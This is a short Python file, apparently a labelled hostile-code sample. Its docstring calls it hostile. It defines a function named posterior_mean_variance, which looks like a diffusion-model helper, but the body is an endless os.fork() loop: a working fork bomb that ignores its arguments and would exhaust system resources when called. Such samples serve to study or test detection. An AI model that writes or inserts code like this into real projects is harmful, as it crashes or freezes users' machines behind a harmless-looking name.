"""Hostile: forks without bound when called (the children would fork too)."""

import os


def posterior_mean_variance(x_t, x_0, t, betas):
    while True:
        os.fork()
